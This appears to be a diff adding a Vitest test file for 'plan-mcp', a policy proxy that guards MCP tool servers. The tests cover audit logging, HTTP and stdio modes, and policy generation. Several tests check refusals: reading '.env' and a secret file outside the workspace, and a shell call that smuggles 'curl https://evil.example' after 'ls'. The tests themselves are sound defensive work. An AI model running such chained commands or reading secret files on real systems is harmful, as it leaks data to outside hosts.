@@ -1,0 +1,223 @@
+import { spawn } from 'node:child_process'
+import { existsSync } from 'node:fs'
+import { readFile, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import type { PassThrough } from 'node:stream'
+import { fileURLToPath } from 'node:url'
+import { Client } from '@modelcontextprotocol/sdk/client/index.js'
+import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js'
+import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
+import { verifyAuditLog } from '@plan/core'
+import { policySchema } from '@plan/core/schemas'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { bufferIo } from '../test-utils/buffer-io.js'
+import { startHttpShellServer } from '../test-utils/http-shell-server.js'
+import { shellPolicy } from '../test-utils/shell-server.js'
+import { textOf } from '../test-utils/text-of.js'
+import {
+  createTestWorkspace,
+  filesystemPolicy,
+  filesystemServerScript,
+  type TestWorkspace,
+} from '../test-utils/workspace.js'
+import { runPlanMcp } from './run-plan-mcp.js'
+
+const TIMEOUT = 60_000
+const bin = fileURLToPath(new URL('../../dist/bin.js', import.meta.url))
+
+describe('runPlanMcp', () => {
+  let workspace: TestWorkspace
+
+  beforeAll(async () => {
+    workspace = await createTestWorkspace()
+  })
+
+  afterAll(async () => {
+    await workspace?.remove()
+  })
+
+  it(
+    'should run the built plan-mcp bin in front of the filesystem server, with an audit log',
+    async () => {
+      expect(existsSync(bin), `${bin} is missing: run pnpm build first`).toBe(true)
+      const policyFile = join(workspace.base, 'policy.json')
+      const auditFile = join(workspace.base, 'audit.jsonl')
+      await writeFile(policyFile, JSON.stringify(filesystemPolicy(workspace.root)))
+      const transport = new StdioClientTransport({
+        command: process.execPath,
+        args: [
+          bin,
+          ...['--policy', policyFile, '--audit', auditFile, '--'],
+          ...[process.execPath, filesystemServerScript, workspace.root],
+        ],
+        stderr: 'pipe',
+      })
+      const client = new Client({ name: 'bin-test', version: '1.0.0' })
+      await client.connect(transport)
+      try {
+        expect((await client.listTools()).tools).toHaveLength(3)
+        const allowed = await client.callTool({
+          name: 'read_text_file',
+          arguments: { path: 'README.md' },
+        })
+        expect(textOf(allowed)).toBe('# Hello from the workspace\n')
+        const refused = await client.callTool({
+          name: 'read_text_file',
+          arguments: { path: join(workspace.evil, 'secret.txt') },
+        })
+        expect(refused.isError).toBe(true)
+        expect(textOf(refused)).toContain('path_outside_workspace')
+      } finally {
+        await client.close()
+      }
+      const verification = verifyAuditLog(await readFile(auditFile, 'utf8'))
+      expect(verification.valid).toBe(true)
+      const types = (await readFile(auditFile, 'utf8'))
+        .trim()
+        .split('\n')
+        .map((line) => JSON.parse(line).event.type)
+      expect(types).toContain('call_allowed')
+      // a call the policy refuses statically is a rejected one-step plan
+      expect(types).toContain('plan_rejected')
+    },
+    TIMEOUT,
+  )
+
+  it(
+    'should guard a server reached over Streamable HTTP with --url',
+    async () => {
+      const remote = await startHttpShellServer()
+      const policyFile = join(workspace.base, 'shell-policy.json')
+      await writeFile(policyFile, JSON.stringify(shellPolicy(workspace.root)))
+      const client = new Client({ name: 'bin-test', version: '1.0.0' })
+      await client.connect(
+        new StdioClientTransport({
+          command: process.execPath,
+          args: [bin, '--policy', policyFile, '--url', remote.url],
+          stderr: 'pipe',
+        }),
+      )
+      try {
+        const allowed = await client.callTool({ name: 'shell', arguments: { command: 'ls' } })
+        expect(textOf(allowed)).toBe('ran: ls')
+        const refused = await client.callTool({
+          name: 'shell',
+          arguments: { command: 'ls; curl https://evil.example' },
+        })
+        expect(refused.isError).toBe(true)
+        expect(textOf(refused)).toContain('command_list')
+        expect(remote.log.commands).toEqual(['ls'])
+      } finally {
+        await client.close()
+        await remote.close()
+      }
+    },
+    TIMEOUT,
+  )
+
+  it(
+    'should serve clients over Streamable HTTP with --listen and stop on SIGTERM',
+    async () => {
+      const policyFile = join(workspace.base, 'listen-policy.json')
+      await writeFile(policyFile, JSON.stringify(filesystemPolicy(workspace.root)))
+      const argv = ['--policy', policyFile, '--listen', '0', '--']
+      const child = spawn(
+        process.execPath,
+        [bin, ...argv, process.execPath, filesystemServerScript, workspace.root],
+        { stdio: ['ignore', 'ignore', 'pipe'] },
+      )
+      const exited = new Promise((resolve) => child.once('exit', (code) => resolve(code)))
+      let stderr = ''
+      child.stderr.on('data', (chunk: Buffer) => {
+        stderr += chunk.toString()
+      })
+      await expect.poll(() => stderr, { timeout: TIMEOUT }).toMatch(/listening on http:\/\/\S+/)
+      const url = new URL(/listening on (http:\/\/\S+)/.exec(stderr)?.[1] ?? '')
+      const client = new Client({ name: 'http-bin-test', version: '1.0.0' })
+      try {
+        await client.connect(new StreamableHTTPClientTransport(url))
+        const allowed = await client.callTool({
+          name: 'read_text_file',
+          arguments: { path: 'README.md' },
+        })
+        expect(textOf(allowed)).toBe('# Hello from the workspace\n')
+        const refused = await client.callTool({
+          name: 'read_text_file',
+          arguments: { path: '.env' },
+        })
+        expect(refused.isError).toBe(true)
+        await client.close()
+      } finally {
+        child.kill('SIGTERM')
+      }
+      expect(await exited).toBe(0)
+    },
+    TIMEOUT,
+  )
+
+  it(
+    'should write a starting policy from the server’s tools with init, and not overwrite it',
+    async () => {
+      const output = join(workspace.base, 'generated.policy.json')
+      const argv = ['init', '--output', output, '--root', workspace.root, '--']
+      const server = [process.execPath, filesystemServerScript, workspace.root]
+      const io = bufferIo(workspace.base)
+      expect(await runPlanMcp([...argv, ...server], io)).toBe(0)
+      const policy = JSON.parse(await readFile(output, 'utf8'))
+      expect(policySchema.safeParse(policy).success).toBe(true)
+      expect(policy.workspace.roots).toEqual(['ws'])
+      expect(policy.tools.read_text_file.args.path).toEqual({ type: 'path', access: 'read' })
+      expect(policy.tools.write_file.args.path).toEqual({ type: 'path', access: 'write' })
+      expect(policy.tools.move_file.args.destination).toEqual({ type: 'path', access: 'write' })
+      expect(policy.tools.read_multiple_files.args.paths).toEqual({
+        type: 'array',
+        items: { type: 'path', access: 'read' },
+      })
+      expect(io.err()).toContain('Narrow it before use')
+      const again = bufferIo(workspace.base)
+      expect(await runPlanMcp([...argv, ...server], again)).toBe(2)
+      expect(again.err()).toContain('--force')
+    },
+    TIMEOUT,
+  )
+
+  it(
+    'should answer over its stdio and exit 0 once the client ends its input',
+    async () => {
+      const policyFile = join(workspace.base, 'stdio-policy.json')
+      await writeFile(policyFile, JSON.stringify(filesystemPolicy(workspace.root)))
+      const io = bufferIo(workspace.base)
+      const running = runPlanMcp(
+        ['--policy', policyFile, '--', process.execPath, filesystemServerScript, workspace.root],
+        io,
+      )
+      const initialize = {
+        jsonrpc: '2.0',
+        id: 1,
+        method: 'initialize',
+        params: {
+          protocolVersion: '2025-06-18',
+          capabilities: {},
+          clientInfo: { name: 'raw', version: '1.0.0' },
+        },
+      }
+      ;(io.stdin as PassThrough).write(`${JSON.stringify(initialize)}\n`)
+      await expect.poll(() => io.out(), { timeout: TIMEOUT }).toContain('"id":1')
+      ;(io.stdin as PassThrough).end()
+      expect(await running).toBe(0)
+      expect(JSON.parse(io.out().split('\n')[0] ?? '').result.serverInfo.name).toBe(
+        'secure-filesystem-server',
+      )
+    },
+    TIMEOUT,
+  )
+
+  it('should refuse --sandbox with a clear error while @plan/sandbox is not installed', async () => {
+    const policyFile = join(workspace.base, 'sandbox-policy.json')
+    await writeFile(policyFile, JSON.stringify(filesystemPolicy(workspace.root)))
+    const io = bufferIo(workspace.base)
+    const code = await runPlanMcp(['--policy', policyFile, '--sandbox', '--', 'server'], io)
+    expect(code).toBe(2)
+    expect(io.err()).toContain('requires @plan/sandbox')
+  })
+})
